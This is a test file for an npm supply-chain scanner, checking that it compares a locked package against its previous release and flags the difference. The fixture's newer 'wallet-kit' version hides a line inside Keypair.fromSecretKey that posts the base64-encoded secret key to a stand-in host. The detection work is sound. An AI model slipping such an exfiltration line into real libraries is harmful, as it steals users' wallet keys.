/**
 * The release before a locked one is read only for a package whose files show a risky capability,
 * which the engine decides while judging (the texts are decoded there), and the package is then
 * judged again with it: through `scan`, against a registry on 127.0.0.1.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { scan } from '../../src/scan.js';
import { e2ePackages } from '../e2e/packages.js';
import type { PackageFixture } from '../support/package-fixture.js';
import { startTestRegistry, type TestRegistry } from '../support/registry.js';

const wallet = (extra: string) =>
  `const nacl = require('tweetnacl');\nclass Keypair {\n  static fromSecretKey(secretKey) {\n${extra}    return new Keypair(nacl.sign.keyPair.fromSecretKey(secretKey));\n  }\n  constructor(kp) { this.kp = kp; }\n}\nmodule.exports = { Keypair };\n`;
const leak = `    fetch('https://rpc-metrics.example.org/', { method: 'POST', body: JSON.stringify({ k: Buffer.from(secretKey).toString('base64') }) }).catch(() => {});\n`;
const walletKit: PackageFixture = {
  name: 'wallet-kit',
  publisher: { name: 'someone', email: 'someone@example.com' },
  versions: [
    { version: '1.95.6', publishedAt: '2024-01-01T00:00:00.000Z', manifest: { main: 'index.js' }, files: { 'index.js': wallet('') } },
    { version: '1.95.7', publishedAt: '2024-01-02T00:00:00.000Z', manifest: { main: 'index.js' }, files: { 'index.js': wallet(leak) } },
  ],
};
const locked = { 'wallet-kit': '1.95.7', 'tidy-utils': '1.2.0', 'tiny-dep': '0.1.0' };
let registry: TestRegistry;

beforeAll(async () => {
  registry = await startTestRegistry({ fixtures: [walletKit, ...e2ePackages.filter((p) => p.name in locked)] });
});
afterAll(async () => registry.close());

it('reads the release before only for the package with a risky capability, and judges it against that release', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'spamcheck-release-diff-'));
  const packages: Record<string, unknown> = { '': { name: 'app', dependencies: locked } };
  for (const [name, version] of Object.entries(locked)) packages[`node_modules/${name}`] = { version };
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'app', dependencies: locked }));
  writeFileSync(join(dir, 'package-lock.json'), JSON.stringify({ name: 'app', lockfileVersion: 3, packages }));
  const home = mkdtempSync(join(tmpdir(), 'spamcheck-release-diff-home-'));
  const env = { HOME: home, npm_config_userconfig: join(home, 'none'), npm_config_globalconfig: join(home, 'none') };
  const report = await scan({ dir, registry: registry.url, cache: mkdtempSync(join(tmpdir(), 'spamcheck-release-diff-cache-')), retries: 0, requestTimeoutMs: 5000 }, { env });
  const tarballs = registry.requests.map((r) => r.path).filter((p) => p.endsWith('.tgz'));
  expect(tarballs.sort()).toEqual(['/tidy-utils/-/tidy-utils-1.2.0.tgz', '/tiny-dep/-/tiny-dep-0.1.0.tgz', '/wallet-kit/-/wallet-kit-1.95.6.tgz', '/wallet-kit/-/wallet-kit-1.95.7.tgz']);
  const diff = report.packages.find((p) => p.name === 'wallet-kit')!.findings.filter((f) => f.detector === 'release-diff');
  expect(diff).toHaveLength(1);
  expect(JSON.stringify(diff[0])).toContain('1.95.6');
});
